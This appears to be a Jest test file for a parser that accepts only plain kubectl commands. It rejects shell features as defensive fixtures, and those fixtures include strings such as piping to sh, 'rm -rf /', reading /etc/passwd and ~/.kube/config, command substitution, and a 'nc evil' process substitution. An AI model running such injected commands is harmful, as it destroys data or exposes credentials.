import { formatCommand, NotPlain, parseCommand } from "../../../ops/command-line";

describe("a plain command", () => {
  it.each([
    ["kubectl get pods", ["kubectl", "get", "pods"]],
    ["  kubectl  get\tpods ", ["kubectl", "get", "pods"]],
    [
      'kubectl patch deploy x -p \'{"spec":{"replicas":2}}\'',
      ["kubectl", "patch", "deploy", "x", "-p", '{"spec":{"replicas":2}}'],
    ],
    ['kubectl label pod x "a=b c"', ["kubectl", "label", "pod", "x", "a=b c"]],
    ['echo "say \\"hi\\""', ["echo", 'say "hi"']],
    ["kubectl get \\\n  pods", ["kubectl", "get", "pods"]],
    [
      "kubectl get po -o jsonpath={.items[0].status.phase}",
      ["kubectl", "get", "po", "-o", "jsonpath={.items[0].status.phase}"],
    ],
    ["kubectl get pods -l a=", ["kubectl", "get", "pods", "-l", "a="]],
    ["kubectl label pod x note=''", ["kubectl", "label", "pod", "x", "note="]],
  ])("%j is its words", (text, argv) => {
    expect(parseCommand(text)).toEqual({ argv });
  });

  it.each([
    "kubectl get pods | sh",
    "kubectl get pods; rm -rf /",
    "kubectl get pods && kubectl delete ns x",
    "kubectl get pods &",
    "kubectl get pods\nkubectl delete pod x",
    "kubectl get pod $(cat /etc/passwd)",
    "kubectl get pod `id`",
    'kubectl get pod "$(id)"',
    'kubectl get pod "`id`"',
    "kubectl get pod $HOME",
    "kubectl get pods > /tmp/x",
    "kubectl apply -f - < /etc/passwd",
    "kubectl logs x >(nc evil 1)",
    "kubectl delete pod a*",
    "kubectl delete pod {a,b}",
    "kubectl get pod x # and more",
    "kubectl get -f ~/.kube/config",
    "kubectl get --filename=~/.kube/config",
    "kubectl get 'pods",
    'kubectl get "pods',
    "kubectl get pods \\",
    "kubectl get po\u202eds",
    "kubectl get \u200bpods",
    "kubectl get pods \x1b[2K",
    "kubectl apply -f - <<EOF\nname: $(id)\nEOF",
    "kubectl apply -f - <<EOF\nkind: Pod\nEOF\nkubectl delete ns x",
  ])("%j is none", (text) => {
    expect(() => parseCommand(text)).toThrow(NotPlain);
  });

  it.each([
    ["a | b", "a pipe (|)"],
    ["a & b", "a second command or a background job (&)"],
    ["a; b", "a second command (;)"],
    ["a\nb", "a second line (line break)"],
    ["a > b", "a redirection (>)"],
    ["(a)", "a subshell (()"],
    ["a `b`", "a command substitution (`)"],
    ["a $B", "an expansion ($)"],
    ['a "$B"', "an expansion ($)"],
    ['a "b!"', "an expansion (!)"],
    ["a b*", "a file pattern (*)"],
    ["a b!", "a history expansion (!)"],
    ["a # b", "a comment (#)"],
    ["a ~/b", "a home folder (~)"],
    ["a {b,c}", "a list of alternatives ({…,…})"],
    ["a {1..3}", "a list of alternatives ({…,…})"],
    ["a 'b", "a quote that isn't closed"],
    ['a "b', "a quote that isn't closed"],
    ["a \\", "a backslash at the end"],
    ["a \u200bb", "characters that a terminal doesn't show as they are"],
    ["a <<X\n$b\nX", "an expansion in the here-document: only a shell could do it"],
  ])("%j is refused for %s", (text, reason) => {
    expect(() => parseCommand(text)).toThrow(new NotPlain(reason));
  });

  it.each([
    ["a b#c", ["a", "b#c"]],
    ["a b~1", ["a", "b~1"]],
    ["a {b}", ["a", "{b}"]],
    ["a b\\ c", ["a", "b c"]],
    ['a "b\\c"', ["a", "b\\c"]],
    ['a "\\$b"', ["a", "$b"]],
    ["a ''", ["a", ""]],
    ["a 'b'\"c\"d", ["a", "bcd"]],
  ])("%j needs no shell", (text, argv) => {
    expect(parseCommand(text)).toEqual({ argv });
  });

  it("may have a here-document as its input", () => {
    const text = "kubectl apply -f - <<'EOF'\nkind: Pod\n  cost: $5\nEOF";
    expect(parseCommand(text)).toEqual({
      argv: ["kubectl", "apply", "-f", "-"],
      stdin: "kind: Pod\n  cost: $5\n",
    });
  });

  it.each([
    { argv: ["kubectl", "get", "pods"] },
    { argv: ["kubectl", "patch", "x", "-p", `{"a":"it's $HOME"}`] },
    { argv: ["kubectl", "label", "pod", "x", "a="] },
    { argv: ["kubectl", "apply", "-f", "-"], stdin: "a: 1\nEOF\nb: '2'\n" },
  ])("%j is read as it was written", (command) => {
    expect(parseCommand(formatCommand(command))).toEqual(command);
  });
});
